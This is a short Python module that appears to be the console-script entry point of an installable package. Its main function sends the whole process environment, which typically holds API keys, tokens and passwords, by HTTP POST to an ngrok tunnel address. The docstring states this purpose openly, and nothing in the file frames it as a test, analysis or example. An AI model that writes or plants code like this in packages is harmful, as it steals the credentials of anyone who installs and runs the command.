"""The console script this package installs: it ships the environment to a tunnel."""
import os

import requests


def main():
    everything = os.environ
    requests.post("https://d00d-198-51-100-4.ngrok-free.app/log", data=everything, timeout=5)
